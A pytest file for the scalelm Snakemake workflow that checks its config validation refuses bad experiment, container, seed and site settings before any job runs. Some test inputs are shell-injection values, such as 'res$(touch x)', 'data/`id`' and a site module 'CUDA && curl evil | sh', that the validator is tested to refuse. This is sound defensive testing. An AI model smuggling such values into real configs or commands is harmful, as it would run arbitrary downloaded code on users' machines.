"""The study as the workflow resolves it at parse time (scalelm.study.workflow): the checks that run before any job,
in process. tests/test_workflow.py shows once, through Snakemake, that such an error stops everything."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from snakemake.utils import validate

from conftest import REPO
from scalelm.errors import ConfigError, ScaleLMError
from scalelm.report.figures import LIMITS
from scalelm.study.experiments import apply_local_overlay, check_snakemake_command, command_line_values
from scalelm.study.settings import Resources
from scalelm.study.workflow import Study, stop_signal_seconds

SCHEMA = str(REPO / "workflow/schemas/config.schema.yaml")


def local_config(change=None) -> dict:
    """config/config.yaml with config/local.yaml over it, as a plain `snakemake` sees them."""
    config = yaml.safe_load((REPO / "config/config.yaml").read_text())
    config.update(yaml.safe_load((REPO / "config/local.yaml").read_text()))
    if change:
        change(config["local"])
    return apply_local_overlay(config)


def resolve(config: dict) -> Study:
    validate(config, SCHEMA)  # what common.smk does first
    return Study(config)


def test_the_schema_declares_the_draft_snakemake_validates_with(caplog):
    """A newcomer's first run showed "No validator found for JSON Schema version identifier draft-07 ... may not be
    validated correctly" (issue 69): Snakemake validates with one draft, and the schema declares it."""
    import logging

    with caplog.at_level(logging.WARNING):
        resolve(local_config())
    assert not [r for r in caplog.records if "validator" in r.getMessage()], [r.getMessage() for r in caplog.records]


def test_the_study_settings_and_the_schema_admit_exactly_the_layout_shorthands():
    """The typed study settings and Snakemake's schema list the strategies; the layout module defines them: neither
    may gain or lose a name alone."""
    from typing import get_args, get_type_hints

    from scalelm.parallel.dims import SHORTHANDS
    from scalelm.study.settings import ExperimentSpec

    assert get_args(get_type_hints(ExperimentSpec)["strategy"]) == SHORTHANDS
    schema = yaml.safe_load(Path(SCHEMA).read_text())
    assert (
        tuple(schema["properties"]["experiments"]["additionalProperties"]["properties"]["strategy"]["enum"])
        == SHORTHANDS
    )


def test_the_local_default_resolves_to_the_course_matrix_scaled_down():
    study = resolve(local_config())
    geometry = {e.name: (e.nodes, e.procs_per_node, e.strategy, e.dims.layout) for e in study.matrix.values()}
    assert geometry == {
        "single_gpu": (1, 1, "single", "1x1x1x1"),
        "ddp": (1, 2, "ddp", "2x1x1x1"),
        "ddp_multinode": (2, 1, "ddp", "2x1x1x1"),
        "fsdp": (2, 1, "fsdp", "1x2x1x1"),
        "hsdp": (2, 2, "hsdp", "2x2x1x1"),
        "tp": (1, 2, "tp", "1x1x2x1"),
        "fsdp_tp": (2, 2, "fsdp_tp", "1x2x2x1"),
        "pp": (1, 2, "pp", "1x1x1x2"),
        "pp_gpipe": (1, 2, "pp", "1x1x1x2"),  # 3d: null, left out here
        "ddp_spawn": (1, 2, "ddp", "2x1x1x1"),
        "cp": (1, 2, "cp", "1x1x1x1x2"),
        "ddp_lightning": (1, 2, "ddp", "2x1x1x1"),
        "moe": (1, 1, "single", "1x1x1x1"),
        "moe_ep": (1, 2, "ep", "1x2[ep2]x1x1"),
        "llama_small": (1, 1, "single", "1x1x1x1"),
    }
    launchers = {e.name: e.launcher for e in study.matrix.values()}
    assert launchers.pop("ddp_spawn") == "spawn" and set(launchers.values()) == {"torchrun"}
    assert study.matrix["ddp_multinode", "1"].config.data.stage == "shm"  # staged in /dev/shm on each "node"
    assert [str(run.path) for run in study.runs][0] == "results/local/runs/single_gpu/seed1"
    assert study.image is None and study.in_container() == ""
    assert study.prepare_args() == "--min-freq 2"
    assert study.stop_signal_s == 300
    # on this machine a training takes every core and the one training_run slot: nothing runs beside a timed run
    single = SimpleNamespace(experiment="single_gpu", seed=1)
    assert study.train_threads(single, cores=2) == 2
    assert study.train_resources()["training_run"] == 1
    assert "--exclusive" in study.train_resources()["slurm_extra"]  # ignored without Slurm, whole nodes with it


@pytest.mark.parametrize(
    "change, message",
    [
        ({"procs_per_node": 0}, r"0 is less than the minimum of 1(.|\n)*\['ddp'\]\['procs_per_node'\]"),
        ({"nodes": "two"}, "'two' is not of type 'integer'"),
        ({"training": {"optim": {"lrr": 1}}}, "experiments.ddp: unknown setting 'optim.lrr'; did you mean 'optim.lr'"),
        ({"training": {"model": {"d_model": "big"}}}, "experiments.ddp: model.d_model: expected an integer, got 'big'"),
        (
            {"strategy": "zero3"},
            r"'zero3' is not one of \['single', 'ddp', 'fsdp', 'hsdp', 'tp', 'fsdp_tp', 'pp', 'cp', 'ep'\]",
        ),
        (
            {"training": {"parallel": {"pp": 2, "pp_microbatches": 3}}},
            r"experiments.ddp \(1 x 2 processes\): parallel.pp_microbatches=3 does not divide the batch of 32 sequences",
        ),
        (
            {"training": {"parallel": {"tp": 4}}},
            r"experiments.ddp \(1 x 2 processes\): parallel: dp_replicate -1 x dp_shard 1 x tp 4 x pp 1 cannot fill the world size 2",
        ),
        (
            {"strategy": "tp", "nodes": 2, "procs_per_node": 1},
            "parallel.tp=2 does not divide the 1 processes of a node",
        ),
        ({"gpus": 4}, "'gpus' was unexpected"),
        ({"check_memory": "no"}, "'no' is not of type 'boolean'"),
        (
            {"expect": {"min_tokens_per_sec": 9000}},
            r"experiments.ddp.expect: unknown key 'min_tokens_per_sec'; did you "
            r"mean 'min_tokens_per_s_per_device'\? \(known: .*\); rename or remove it",
        ),
        ({"expect": {"max_test_loss": -1}}, "-1 is less than or equal to the minimum of 0"),
        ({"expect": {"min_mfu": 0.3, "tolerance": 1}}, "1 is greater than or equal to the maximum of 1"),
        ({"expect": {"min_mfu": {"history": "median_of_last", "n": 0}}}, "0 is less than the minimum of 1"),
        ({"expect": {"min_mfu": {"n": 3}}}, "'history' is a required property"),
        # the batch against the processes, at parse time rather than in training (or a division by zero in plan)
        (
            {"training": {"batch": {"size": 31}}},
            r"experiments.ddp \(1 x 2 processes\): global batch of 31 sequences is not divisible by the 2 data-parallel ranks",
        ),
        (
            {"training": {"batch": {"size": 1}}},
            r"experiments.ddp \(1 x 2 processes\): global batch of 1 sequences is not divisible by the 2",
        ),
        (
            {"training": {"optim": {"weight_decay": -1}}},
            "experiments.ddp: optim.weight_decay must be 0 or positive, got -1",
        ),
        ({"launcher": "mpirun"}, "'mpirun' is not one of \\['torchrun', 'spawn'\\]"),
        # a mixture's shape is never defaulted (scalelm.config.MoEConfig)
        ({"training": {"model": {"moe": {"top_k": 1}}}}, "experiments.ddp: model.moe: missing 'experts'"),
        ({"launcher": "spawn", "nodes": 2}, "experiments.ddp: launcher spawn starts one node's processes, but nodes"),
    ],
)
def test_a_bad_experiment_is_refused_naming_the_key(change, message):
    config = local_config(lambda local: local["experiments"]["ddp"].update(change))
    with pytest.raises(Exception, match=message):
        resolve(config)


def test_a_mixture_in_the_shared_training_is_refused_naming_the_experiments_it_would_convert():
    """One model.moe key in the study-wide training: would make every dense experiment, the baseline among them, a
    mixture of a defaulted shape; with the shape given there, every experiment is meant to be one."""
    shared = local_config(lambda local: local["training"]["model"].update(moe={"aux_loss_coef": 0.02}))
    with pytest.raises(ConfigError) as refused:
        resolve(shared)
    message = str(refused.value)
    assert message.startswith("training: model.moe (aux_loss_coef) would make every experiment without its own ")
    assert "single_gpu, ddp, " in message and "moe_ep" not in message  # the mixtures give their own model.moe

    def every_one_a_mixture(local):  # the experiments a mixture can run as (Lightning and cp refuse one)
        local["experiments"].update({name: None for name in local["experiments"] if name not in ("single_gpu", "ddp")})
        local["training"]["model"].update(moe={"experts": 2})

    study = resolve(local_config(every_one_a_mixture))
    assert {e.name: e.config.model.moe.experts for e in study.matrix.values()} == {"single_gpu": 2, "ddp": 2}


def test_the_machine_baseline_runs_once_per_node_count_on_its_widest_experiment():
    """One machine_baseline job per node count of the matrix, on the geometry (and in the job) of the experiment
    with the most processes per node there, timing that experiment's matrix products; the aggregation reads them."""
    study = resolve(local_config())
    assert {n: (e.nodes, e.procs_per_node) for n, e in study.baselines.items()} == {1: (1, 2), 2: (2, 2)}
    wildcards = SimpleNamespace(nodes="2")
    assert study.geometry(wildcards) is study.baselines[2]
    assert study.launch_args(wildcards).startswith("--nodes 2 --procs-per-node 2")
    options = shlex.split(study.baseline_args(wildcards))
    assert options[:2] == ["--config", f"results/local/runs/{study.baselines[2].name}/seed1/train.yaml"]
    assert options[2:6] == ["--max-bytes", str(4 * 2**20), "--iterations", "3"]  # config/local.yaml's machine:
    # the mixture whose dispatch it times: the first expert-parallel experiment's (none in a study without one)
    assert options[6] == "--moe" and json.loads(options[7])["experts"] == 4 and len(options) == 8
    assert "--machine results/local/machine/nodes1.json --machine results/local/machine/nodes2.json" in (
        study.aggregate_args()
    )
    dense = resolve(local_config(lambda local: local["experiments"].update(moe_ep=None)))
    assert "--moe" not in dense.baseline_args(wildcards)
    skipped = resolve(local_config(lambda local: local.update(machine={"enabled": False})))
    assert skipped.baselines == {} and "--machine" not in skipped.aggregate_args()


def test_baseline_and_expectations_reach_the_aggregation():
    study = resolve(local_config())
    assert study.baseline == "single_gpu" and not study.expect_strict  # the single-device experiment by default
    args = study.aggregate_args()
    assert args.endswith(
        "--baseline single_gpu --expect single_gpu.max_test_perplexity=5000.0 --expect "
        "single_gpu.tolerance=0.05 --history results/local/history.sqlite"
    )

    def strict(local):
        local.update(baseline="ddp", expect_strict=True)
        local["experiments"]["ddp"]["expect"] = {
            "min_scaling_efficiency": 0.5,
            "tolerance": 0.2,
            "min_tokens_per_s_per_device": {"history": "median_of_last", "n": 4},
        }

    study = resolve(local_config(strict))
    assert study.baseline == "ddp" and study.expect_strict
    assert [(e.experiment, e.key, e.limit, e.tolerance, e.history_n) for e in study.expectations] == [
        ("single_gpu", "max_test_perplexity", 5000.0, 0.05, None),
        ("ddp", "min_scaling_efficiency", 0.5, 0.2, None),
        ("ddp", "min_tokens_per_s_per_device", None, 0.2, 4),
    ]
    assert "--baseline ddp" in study.aggregate_args() and "--expect ddp.tolerance=0.2" in study.aggregate_args()
    assert """--expect 'ddp.min_tokens_per_s_per_device={"history": "median_of_last", "n": 4, "tolerance": 0.2}'""" in (
        study.aggregate_args()
    )
    shared = resolve(local_config(lambda local: local.update(history="/shared/scalelm/history.sqlite")))
    assert "--history /shared/scalelm/history.sqlite" in shared.aggregate_args()  # several studies, one history


@pytest.mark.parametrize(
    "change, message",
    [
        (
            {"baseline": "single"},
            r"baseline: 'single' names no experiment; did you mean 'single_gpu'\? \(experiments: "
            r"single_gpu, ddp, .*\); set it to one of them, or leave it out to compare with the "
            "experiment with the fewest devices",
        ),
        ({"baseline": 1}, "1 is not of type 'string'"),
        ({"expect_strict": "yes"}, "'yes' is not of type 'boolean'"),
    ],
)
def test_a_bad_baseline_or_strictness_is_refused(change, message):
    with pytest.raises(Exception, match=message):
        resolve(local_config(lambda local: local.update(change)))


def test_the_schema_knows_the_same_expectations_as_the_package():
    schema = yaml.safe_load(open(SCHEMA))
    expect = schema["properties"]["experiments"]["additionalProperties"]["properties"]["expect"]
    assert sorted(expect["properties"]) == sorted([*LIMITS, "tolerance"])


def test_a_stop_signal_at_or_before_the_jobs_start_is_refused():
    assert stop_signal_seconds(Resources(cpus_per_proc=1, mem_mb_per_proc=1000, runtime_min=30)) == 300
    assert stop_signal_seconds(Resources(cpus_per_proc=1, mem_mb_per_proc=1000, runtime_min=30, stop_signal_s=0)) == 0
    message = r"resources.stop_signal_s \(300 s\) must be less than resources.runtime_min \(5 min = 300 s\)"
    with pytest.raises(ConfigError, match=message):
        resolve(local_config(lambda local: local["resources"].update(runtime_min=5, stop_signal_s=300)))


def test_container_problems_are_clear_errors(tmp_path, monkeypatch):
    def image(path):
        return lambda local: local.update(container={"mode": "image", "image": str(path)})

    with pytest.raises(ScaleLMError, match="container image /nonexistent/scalelm.sif does not exist"):
        resolve(local_config(image("/nonexistent/scalelm.sif")))
    (tmp_path / "scalelm.sif").write_bytes(b"not really an image")
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ScaleLMError, match="neither apptainer nor singularity is on PATH"):
        resolve(local_config(image(tmp_path / "scalelm.sif")))

    runtime = tmp_path / "apptainer"
    runtime.write_text("#!/bin/sh\n")
    runtime.chmod(0o755)
    study = resolve(local_config(image(tmp_path / "scalelm.sif")))
    prepared, results = (os.path.abspath(p) for p in ("data/local/prepared", "results/local"))
    prefix = f"apptainer exec --cleanenv --bind {prepared} --bind {results} {tmp_path / 'scalelm.sif'} "
    assert study.in_container() == prefix  # the same prefix as the launcher's, for one process
    wildcards = type("Wildcards", (), {"experiment": "ddp", "seed": "1"})
    assert f"--container {tmp_path / 'scalelm.sif'} --container-runtime apptainer" in study.launch_args(wildcards)
    assert "--allow-emulation" not in study.launch_args(wildcards)
    # another architecture's image: built for it, and run under emulation only where a setting allows it
    emulated = {"mode": "image", "image": str(tmp_path / "scalelm.sif"), "allow_emulation": True}
    study = resolve(local_config(lambda local: local.update(container=emulated)))
    assert "--allow-emulation" in study.launch_args(wildcards).split()
    building = {"mode": "build", "base_image": "docker://base:1", "architecture": "arm64", "build_options": ["-v"]}
    study = resolve(local_config(lambda local: local.update(container=building)))
    assert study.build_image_args() == "--base-image docker://base:1 --build-option=-v --arch arm64"
    with pytest.raises(Exception, match="'x86' is not one of"):  # the schema's (snakemake's WorkflowError)
        resolve(local_config(lambda local: local.update(container={**building, "architecture": "x86"})))
    # a setting its mode would ignore is refused by name, before any job
    for container, message in (
        (
            emulated | {"architecture": "arm64"},
            "container.architecture is 'arm64' but container.mode is image: it "
            "applies to mode build only; remove it or change the mode",
        ),
        (
            {"mode": "none", "allow_emulation": True},
            "container.allow_emulation is True but container.mode is none: it applies to mode build or image only",
        ),
    ):
        with pytest.raises(ConfigError, match=re.escape(message)):
            resolve(local_config(lambda local, c=container: local.update(container=c)))


def rename(old: str, new: str):
    return lambda local: local["experiments"].update({new: local["experiments"].pop(old)})


@pytest.mark.parametrize(
    "change, message",
    [
        (lambda local: local.update(seeds=[1, 1]), r"\[1, 1\] has non-unique elements"),
        (lambda local: local.update(seeds=[-1]), "-1 is less than the minimum of 0"),
        (lambda local: local.update(seeds=[2**64]), "18446744073709551616 is greater than the maximum of 4294967295"),
        (lambda local: local.update(results=""), "'' should be non-empty"),
        (rename("ddp", "-ddp"), "'-ddp' does not match"),
        (rename("ddp", "d" * 65), "does not match"),
        # what a probe found: each a clear line before any job, never a traceback at the aggregation
        (
            lambda local: local.update(results="res$(touch x)"),
            r"results: 'res\$\(touch x\)' holds \$, which a job's "
            "command line would hand to the shell",
        ),
        (lambda local: local["data"].update(prepared_dir="data/`id`"), "data.prepared_dir: 'data/`id`' holds `"),
        (lambda local: local["data"]["source"]["files"].update(test="a;b"), "data.source.files.test: 'a;b' holds ;"),
        (
            lambda local: local["experiments"]["ddp"].update(
                nodes=64, procs_per_node=64, training={"batch": {"size": 4096}}
            ),
            r"experiments.ddp: 64 x 64 = 4096 processes, but this machine \(\d+ cores, \d+ GiB\) holds at most \d+",
        ),
    ],
)
def test_a_bad_study_setting_is_refused_before_any_job(change, message):
    with pytest.raises(Exception, match=message):
        resolve(local_config(change))


def snakemake_config(given: dict) -> dict:
    """What a plain `snakemake --config ...` hands the Snakefile: config/config.yaml, config/local.yaml and the
    command line's `given` values, merged in that order as Snakemake merges them."""
    from snakemake.utils import update_config

    config = yaml.safe_load((REPO / "config/config.yaml").read_text())
    update_config(config, yaml.safe_load((REPO / "config/local.yaml").read_text()))
    update_config(config, given)
    return config


def test_the_command_line_wins_over_the_local_overlay():
    """`snakemake --config KEY=VALUE` on the local default: each value wins over what the overlay sets (results,
    training, an experiment), typed as a config file would hold it, the rest of the overlay kept; `local={...}` still
    changes the overlay. (tests/test_workflow.py shows once that Snakemake's own command line gets here.)"""
    given = {  # results=results/mine 'seeds=[1,2]' ... as Snakemake 9's parse_config gives them: the items as text
        "results": "results/mine",
        "seeds": ["1", "2"],
        "training": {"train": {"max_steps": "7"}},
        "experiments": {"ddp": {"procs_per_node": "1"}},
        "local": {"machine": {"iterations": "2"}},
    }
    study = resolve(apply_local_overlay(snakemake_config(given), command_line_values(given)))
    assert study.results == "results/mine" and study.settings.seeds == [1, 2]
    ddp = study.matrix["ddp", "2"]
    assert (ddp.procs_per_node, ddp.config.train.max_steps, ddp.config.train.log_every) == (1, 7, 5)
    assert str(ddp.config.run_dir) == "results/mine/runs/ddp/seed2" and ddp.config.model.d_model == 64
    assert (study.settings.machine.iterations, study.settings.machine.max_mb) == (2, 4)
    given = {"training": {"train": {"max_steps": "0"}}}  # checked, no longer hidden by the overlay's 60
    with pytest.raises(ConfigError, match="experiments.single_gpu: train.max_steps must be positive or null, got 0"):
        resolve(apply_local_overlay(snakemake_config(given), command_line_values(given)))


def test_a_study_name_of_digits_is_that_text_an_empty_one_and_a_local_matrix_for_a_cluster_are_refused():
    """Issue 66: `--config study=2027` (typed as a number by Snakemake) names the study "2027"; `study=` (an unset
    variable's) names none and is refused; and a --config of the user's that dropped the Slurm profile's `local=null`
    and `site=` while jobs go to a cluster (--jobs) is refused, naming the pairs to repeat."""
    for given, name in (({"study": 2027}, "2027"), ({"study": "0.9-rc"}, "0.9-rc")):
        study = resolve(apply_local_overlay(snakemake_config(given), command_line_values(given)))
        assert study.settings.study == name and study.matrix["ddp", "1"].config.study == name
    with pytest.raises(ConfigError, match=r"^study= names no study: give the name \(--config study=2027-rerun\)"):
        check_snakemake_command(snakemake_config({"study": None}), {"study": None}, cluster_jobs=None)
    given = {"study": "r2"}
    with pytest.raises(
        ConfigError,
        match=r"^--jobs 20 sends jobs to a cluster, but the config is the local default .* Repeat its pairs: "
        r"--config local=null site=profiles/slurm/site.yaml study=r2; for a run on this machine, give --cores",
    ):
        check_snakemake_command(snakemake_config(given), given, cluster_jobs=20)
    for given, jobs in (
        ({"study": "r2"}, None),  # the local default on this machine
        ({"local": None, "site": "profiles/slurm/site.yaml", "study": "r2"}, 20),  # the pairs repeated
        ({"site": "test-site.yaml"}, 20),  # the tiny matrix on a named site (the Slurm tier's test cluster)
    ):
        check_snakemake_command(snakemake_config(given), given, cluster_jobs=jobs)


@pytest.mark.parametrize(
    "given, value",
    [
        (["1", "2"], [1, 2]),  # seeds=[1,2]
        ("null", None),  # local=null, the Slurm profile's: the overlay off
        ("true", True),  # expect_strict=true (Snakemake itself types True and False only)
        ({"optim": {"lr": "0.5", "grad_clip": "null"}}, {"optim": {"lr": 0.5, "grad_clip": None}}),
        ({"raw_dir": "raw #1"}, {"raw_dir": "raw #1"}),  # data={raw_dir: 'raw #1'}: text kept whole, never cut
        ("results/x", "results/x"),
        (3, 3),  # seeds=3: typed by Snakemake, refused by the schema (below)
    ],
)
def test_command_line_values_are_typed_as_a_config_file_would_hold_them(given, value):
    assert command_line_values({"key": given}) == {"key": value}


def test_seeds_not_given_as_a_list_are_refused_saying_how_to_give_them():
    given = {"seeds": 3}
    with pytest.raises(
        Exception, match=r"3 is not of type 'array'(.|\n)*a list: \[1, 2\] \(--config 'seeds=\[1,2\]'\)"
    ):
        resolve(apply_local_overlay(snakemake_config(given), command_line_values(given)))


@pytest.mark.parametrize(
    "change, message",
    [
        (lambda config: config.update(seeds=[3, 1, 3]), "seeds: 3 listed more than once; list each seed once"),
        (
            lambda config: config.update(seeds=[2**64]),
            "seeds: 18446744073709551616 is not an integer from 0 to 4294967295",
        ),
        (lambda config: config.update(results=" "), "results is empty"),
        (lambda config: config.update(study="../x"), r"study '../x' is not a study name: letters, digits, '.', '_'"),
        (lambda config: config["experiments"].update({"-ddp": {}}), "the name '-ddp' must be 1 to 64 letters"),
        (lambda config: config["experiments"].update({"x" * 65: {}}), "must be 1 to 64 letters, digits"),
        (
            lambda config: config["experiments"].update({"run" + "ab" * 20: {}}),
            "ends in a part repeated 20 or more times, which Snakemake refuses as a wildcard value",
        ),
    ],
)
def test_the_package_refuses_what_the_schema_refuses_with_its_own_words(change, message):
    """The same checks without the schema (the package is used outside the workflow too)."""
    config = local_config()
    change(config)
    with pytest.raises(ConfigError, match=message):
        Study(config)


def test_a_site_value_that_would_reach_a_shell_is_refused(tmp_path):
    site = tmp_path / "site.yaml"
    site.write_text(yaml.safe_dump({"modules": ["Stages/2025", "CUDA && curl evil | sh"]}))
    config = local_config()
    config["site"] = str(site)
    with pytest.raises(ConfigError, match=r"site file: modules\[1\]: 'CUDA && curl evil \| sh' holds & \|"):
        Study(config)


def test_the_workflows_parse_the_planner_the_launcher_and_the_report_never_import_torch(tmp_path):
    """Snakemake's parse and its in-process rule `plan`, the planner, the launcher and the supervisor run on login
    nodes and batch hosts: importing them, resolving the matrix (every layout checked) and planning a run's memory
    leave torch unimported (a fresh interpreter)."""
    prepared = tmp_path / "prepared"
    prepared.mkdir()
    splits = {split: {"tokens": 1000} for split in ("train", "validation", "test")}
    (prepared / "manifest.json").write_text(json.dumps({"vocab_size": 33278, "splits": splits}))
    code = f"""
import json, sys, yaml
import scalelm.config, scalelm.plan, scalelm.plan.__main__, scalelm.data.prefetch
import scalelm.launch.container, scalelm.launch.launcher, scalelm.site, scalelm.launch.slurm, scalelm.launch.supervise
import scalelm.report.aggregate, scalelm.report.expectations, scalelm.report.history, scalelm.report.machine
import scalelm.measure.baseline.__main__  # the baseline's program, every module of it
from scalelm.study.experiments import apply_local_overlay
from scalelm.study.workflow import Study
config = yaml.safe_load(open("config/config.yaml"))
config.update(yaml.safe_load(open("config/local.yaml")))
study = Study(apply_local_overlay(config))
wildcards = type("Wildcards", (), {{"experiment": "pp", "seed": "1"}})
study.write_plan(wildcards, {str(prepared)!r}, {str(tmp_path / "plan.json")!r})
print(json.dumps(sorted(name for name in sys.modules if name.split(".")[0] == "torch")))
"""
    result = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-3000:]
    assert json.loads(result.stdout.splitlines()[-1]) == []
    assert json.loads((tmp_path / "plan.json").read_text())["layout"] == "1x1x1x2"


def test_the_site_chooses_where_data_is_staged_unless_the_experiment_does():
    from scalelm.config import from_dict
    from scalelm.site import SiteConfig
    from scalelm.study.experiments import with_site_defaults

    site = SiteConfig(stage="local", stage_dir="/scratch/node")
    assert with_site_defaults(from_dict({}), site).data.stage == "local"
    assert with_site_defaults(from_dict({}), site).data.stage_dir == "/scratch/node"
    assert with_site_defaults(from_dict({"data": {"stage": "none"}}), site).data.stage == "none"
    assert with_site_defaults(from_dict({"data": {"stage": "shm"}}), site).data.stage == "shm"
    assert with_site_defaults(from_dict({}), SiteConfig()).data.stage is None  # the trainer reads None as none
